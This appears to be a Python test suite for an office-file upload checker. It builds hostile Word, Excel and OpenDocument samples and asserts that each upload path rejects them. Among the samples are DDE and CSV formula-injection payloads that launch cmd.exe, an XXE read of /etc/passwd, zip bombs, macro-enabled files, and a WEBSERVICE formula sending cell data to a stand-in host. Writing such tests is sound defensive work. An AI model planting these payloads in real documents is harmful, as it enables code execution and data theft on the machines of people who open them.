"""Files that were made to harm whoever opens them, at every door through which files come in."""

import io
import zipfile
from time import process_time

import pytest

from tests import file_samples as made
from tests.file_samples import EXCEL, ooxml, zipped
from tracker.domain.reports.letterhead import DocumentKind
from tracker.exports.word.template_checks import TemplateRefused, check_template
from tracker.filetypes import UploadRefused, accept, package_parts
from tracker.filetypes.kinds import FileKind, NotTaken
from tracker.filetypes.tables.reading import read_sheets
from tracker.filetypes.texts.reading import is_read_quickly, read_text

MEGABYTE = 1024 * 1024
OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
LAUGHTER = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
)
FROM_DISK = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
MACROS = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def linked(kind, target, part="word/_rels/document.xml.rels", **more):
    """A Word file, unless told otherwise, that names something elsewhere."""
    link = f'<Relationship Id="r1" Type="{OUTSIDE}{kind}" Target="{target}" TargetMode="External"/>'
    return ooxml(more_parts={part: f"<Relationships>{link}</Relationships>"}, **more)


def excel(**more):
    return ooxml("xl/workbook.xml", EXCEL, **more)


def of_many_parts(number):
    return ooxml(more_parts={f"word/media/{i}.bin": "" for i in range(number)})


def growing_to(size):
    """Its first part unpacks to so much, as its entry says; no more of it is ever unpacked."""
    content = bytearray(ooxml())
    at = content.find(b"PK\x01\x02") + 24
    content[at : at + 4] = size.to_bytes(4, "little")
    return bytes(content)


def claiming(number):
    """The end of a list of entries that says that there are so many."""
    content = bytearray(ooxml())
    at = content.rfind(b"PK\x05\x06")
    content[at + 8 : at + 12] = number.to_bytes(2, "little") * 2
    return bytes(content)


HOSTILE = {
    "macros of Word": (ooxml(content_type=DOCM), "macro"),
    "macros of Excel": (ooxml("xl/workbook.xml", XLSM), "macro"),
    "macros under another name": (ooxml(more_types=MACROS), "macro"),
    "macros beside the parts": (excel(more_parts={"xl/vbaProject.bin": "x"}), "macro"),
    "macros of old": (made.compound({**made.DOC, **made.VBA}), "macro"),
    "10,000 parts": (of_many_parts(9_997), "quá nhiều phần bên trong (10.000)"),
    "a list that claims 60,000 parts": (claiming(60_000), "quá nhiều phần bên trong (60.000)"),
    "a bomb in one part": (growing_to(600 * MEGABYTE), "quá lớn"),
    "entities": (ooxml(more_parts={"word/styles.xml": LAUGHTER}), "DOCTYPE"),
    "a file of the machine": (excel(more_parts={"xl/a.xml": FROM_DISK}), "DOCTYPE"),
    "a document type behind blanks": (
        ooxml(more_parts={"word/a.xml": "<!--" + "x" * 70_000 + "-->" + FROM_DISK}),
        "không đọc được",
    ),
    "in UTF-16": (
        ooxml(more_parts={"word/a.xml": ('<?xml version="1.0"?>' + FROM_DISK).encode("utf-16")}),
        "DOCTYPE",
    ),
    "a template from elsewhere": (
        linked("attachedTemplate", "https://xau.example/a.dotm"), "nội dung lấy từ nơi khác",
    ),
    "a template of another machine": (
        linked("attachedTemplate", "file://may-xau/a.dotm"), "nội dung lấy từ nơi khác",
    ),
    "its name as Windows writes it": (
        linked("attachedTemplate", r"\\\\may-xau\\a.dotm"), "nội dung lấy từ nơi khác",
    ),
    "a picture from elsewhere": (
        linked("image", "http://xau.example/a.png"), "nội dung lấy từ nơi khác",
    ),
    "an object from elsewhere": (
        linked("oleObject", "http://xau.example/a", "xl/worksheets/_rels/sheet1.xml.rels"),
        "nội dung lấy từ nơi khác",
    ),
    "a workbook from elsewhere": (
        linked("externalLinkPath", "https://xau.example/a.xlsx", "xl/links/_rels/a.xml.rels"),
        "nội dung lấy từ nơi khác",
    ),
    "entities in OpenDocument": (
        zipped(
            {"content.xml": FROM_DISK, "META-INF/manifest.xml": "<manifest/>"},
            first="application/vnd.oasis.opendocument.text",
        ),
        "DOCTYPE",
    ),
    "a lists of links that is none": (
        ooxml(more_parts={"word/_rels/document.xml.rels": "<Relationships"}), "hỏng",
    ),
}  # fmt: skip


RUNS, FETCHES, WITHIN = "gọi chương trình khác", "nội dung lấy từ nơi khác", "đính bên trong"
CALC = "c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"
SUPBOOK = b"\xae\x01\x0f\x00\x00\x00\x0a\x00\x00cmd\x03/c calc"


def said(*instructions):
    """A part of Word in which a field is spread over runs."""
    runs = "".join(f"<r><instrText>{one}</instrText></r>" for one in instructions)
    return (
        f'<document><p><r><fldChar fldCharType="begin"/></r>{runs}'
        '<r><fldChar fldCharType="end"/></r></p></document>'
    )


def holding(part, xml, **more):
    return ooxml(more_parts={part: xml}, **more)


def in_sheet(formula):
    return excel(more_parts={"xl/worksheets/sheet1.xml": f"<s><c><f>{formula}</f></c></s>"})


def with_within(name, content):
    return ooxml(more_parts={f"word/embeddings/{name}": content})


def opendocument(xml, kind="text"):
    return zipped(
        {"content.xml": xml, "META-INF/manifest.xml": "<manifest/>"},
        first=f"application/vnd.oasis.opendocument.{kind}",
    )


HOSTILE |= {
    "DDEAUTO in one word": (
        holding("word/header1.xml", f'<h><fldSimple instr=" DDEAUTO {CALC}"/></h>'), RUNS,
    ),
    "DDEAUTO over several runs": (
        holding("word/footnotes.xml", said("DD", "EAU", f"TO {CALC}")), RUNS,
    ),
    "DDE around another field": (
        holding(
            "word/comments.xml",
            said("DD").replace("</p></document>", "")
            + said("QUOTE 65").removeprefix("<document>") .replace("</document>", "")
            + f"<r><instrText>DDE {CALC}</instrText></r></p></document>",
        ),
        RUNS,
    ),
    "DDE in UTF-16": (
        holding("word/a.xml", ('<?xml version="1.0"?>' + said(f"dde {CALC}")).encode("utf-16")),
        RUNS,
    ),
    "a picture that a field fetches": (
        holding("word/a.xml", said('INCLUDEPICTURE "http://xau.example/a.png" \\d')), FETCHES,
    ),
    "a text from another machine": (
        holding("word/a.xml", said("INCLUDETEXT ", r"\\\\may-xau\\a.docx")), FETCHES,
    ),
    "a link of Excel to another program": (
        holding(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            main="xl/workbook.xml", content_type=EXCEL,
        ),
        RUNS,
    ),
    "a formula that calls a program": (in_sheet("cmd|'/C calc'!A0"), RUNS),
    "the same with a sign in numbers": (in_sheet("cmd&#124;'/C calc'!A0"), RUNS),
    "a name that calls a program": (
        excel(more_parts={"xl/a.xml": "<w><definedName>MSEXCEL|'a'!b</definedName></w>"}), RUNS,
    ),
    "a formula that asks a server": (
        in_sheet("_xlfn.WEBSERVICE(&quot;http://xau.example/?&quot;&amp;A1)"), FETCHES,
    ),
    "a query of a web page": (
        excel(more_parts={"xl/connections.xml":
                          '<c><connection><webPr url="http://xau.example"/></connection></c>'}),
        FETCHES,
    ),
    "data asked for when it is opened": (
        excel(more_parts={"xl/connections.xml": '<c><connection refreshOnLoad="1"/></c>'}), FETCHES,
    ),
    "an object of a kind nobody knows, from elsewhere": (
        linked("somethingNew", "https://xau.example/a"), FETCHES,
    ),
    "a link that is called a click": (
        ooxml(more_parts={"word/_rels/document.xml.rels": '<Relationships><Relationship Id="r1" '
              'Type="http://xau.example/hyperlink" Target="http://xau.example/a" '
              'TargetMode="External"/></Relationships>'}),
        FETCHES,
    ),
    "a button that runs a program": (
        holding("ppt/slides/slide1.xml", '<s><hlinkHover action="ppaction://program"/></s>'), RUNS,
    ),
    "controls that run": (
        ooxml(more_types=MACROS.replace("vbaProject", "activeX")),
        "macro",
    ),
    "a file of any kind within": (
        with_within("oleObject1.bin", made.compound({"\x01Ole10Native": None})), WITHIN,
    ),
    "macros within": (
        with_within("a.xlsm", excel(more_parts={"xl/vbaProject.bin": "x"})), "bên trong",
    ),
    "DDE within": (with_within("a.xlsx", in_sheet("cmd|'/C calc'!A0")), RUNS),
    "files within files within": (
        with_within("a.docx", with_within("b.docx", ooxml())), "bên trong",
    ),
    "DDE in OpenDocument": (opendocument("<c><dde-source/></c>"), RUNS),
    "DDE in a sheet of OpenDocument": (
        opendocument('<c><cell formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/></c>',
                     "spreadsheet"),
        RUNS,
    ),
    "a picture from elsewhere in OpenDocument": (
        opendocument('<c xmlns:x="x"><image x:href="https://xau.example/a.png"/></c>'), FETCHES,
    ),
    "DDE in Word of old": (made.with_stream(made.DOC, "WordDocument", b"a\x13 DDEAUTO c:"), RUNS),
    "DDE in Word of old, two bytes a sign": (
        made.with_stream(made.DOC, "WordDocument", "a\x13DDE c:".encode("utf-16-le")), RUNS,
    ),
    "DDE in Excel of old": (made.with_stream({"Workbook": None}, "Workbook", SUPBOOK), RUNS),
    "a file within Word of old": (
        made.compound({**made.DOC, "ObjectPool": {"_1": {"\x01Ole10Native": None}}}), WITHIN,
    ),
}  # fmt: skip


def kept_as_attachment(content):
    accept("tep.docx", content, most_bytes=1000 * MEGABYTE)


def as_template(content):
    check_template(DocumentKind.REPORT, "tep.docx", content)


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize(
    "door", [kept_as_attachment, read_sheets, is_read_quickly, read_text, as_template]
)
def test_it_is_refused_at_each_door_in_words_and_at_once(door, name):
    content, words = HOSTILE[name]
    begun = process_time()
    with pytest.raises((NotTaken, UploadRefused, TemplateRefused)) as refusal:
        door(content)
    assert words in str(refusal.value)
    assert str(refusal.value).endswith("."), "what to do is said, too"
    assert process_time() - begun < 2


@pytest.mark.parametrize(
    "lines", ["TT,Ten\n1,=cmd|'/C calc'!A0\n", "1;\"+2+5+cmd|' /C calc'!A0\"\n"]
)
def test_lines_that_a_spreadsheet_takes_for_a_call_are_not_kept(lines):
    with pytest.raises(UploadRefused, match="có ô là lệnh DDE, gọi chương trình khác"):
        kept_as_attachment(lines.encode())


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://dienbien.gov.vn"),
        ("hyperlink", "mailto:an@tinh.example"),
        ("attachedTemplate", "file:///C:/Users/an/Normal.dotm"),
        ("externalLinkPath", "so-lieu.xlsx"),
        ("externalLinkPath", "file:///D:/so-lieu.xlsx"),
    ],
)
def test_links_that_files_of_offices_have_are_taken(kind, target):
    assert accept("a.docx", linked(kind, target), most_bytes=MEGABYTE).kind is FileKind.DOCX


@pytest.mark.parametrize(
    "content",
    [
        holding("word/a.xml", said("PAGE ", "\\* MERGEFORMAT")),
        holding("word/a.xml", said('HYPERLINK "https://dienbien.gov.vn"')),
        holding("word/a.xml", said('INCLUDEPICTURE "C:\\Anh\\dau.png"')),
        holding("word/a.xml", "<p><t>Trường DDEAUTO | http://xau.example!</t></p>"),
        in_sheet("SUM('Quý I|II'!A1:A9)&amp;&quot;a|b!c&quot;"),
        excel(more_parts={"xl/a.xml": "<s><is><t>Sở A | Sở B!</t></is></s>"}),
        excel(more_parts={"xl/connections.xml": '<c><connection refreshOnLoad="0"/></c>'}),
        with_within("a.xlsx", in_sheet("SUM(A1:A9)")),
        opendocument('<c xmlns:x="x"><a x:href="https://dienbien.gov.vn">a</a></c>'),
        opendocument('<c><cell formula="of:={1;2|3;4}"/></c>', "spreadsheet"),
        made.with_stream(made.DOC, "WordDocument", b"a\x13 PAGE \x15 DDEAUTO c:"),
        "Họp giao ban\n- Sở A | Sở B: xong!\n=> gửi | lưu!\n".encode(),
    ],
)
def test_what_offices_write_is_taken(content):
    assert accept("a", content, most_bytes=MEGABYTE)


def test_a_file_of_many_pictures_is_taken():
    assert accept("a.docx", of_many_parts(3_000), most_bytes=MEGABYTE).kind is FileKind.DOCX


def test_a_list_of_entries_is_not_read_further_than_any_office_file_has_one(monkeypatch):
    def read(*_):
        raise AssertionError("the list was read")

    monkeypatch.setattr(zipfile, "ZipFile", read)
    with pytest.raises(NotTaken, match="quá nhiều phần"):
        read_sheets(of_entries(package_parts.MOST_PARTS + 1))


def of_entries(number):
    content = io.BytesIO()
    content.write(b"PK\x03\x04" + bytes(100))
    content.write(b"PK\x05\x06" + bytes(4) + number.to_bytes(2, "little") * 2 + bytes(10))
    return content.getvalue()
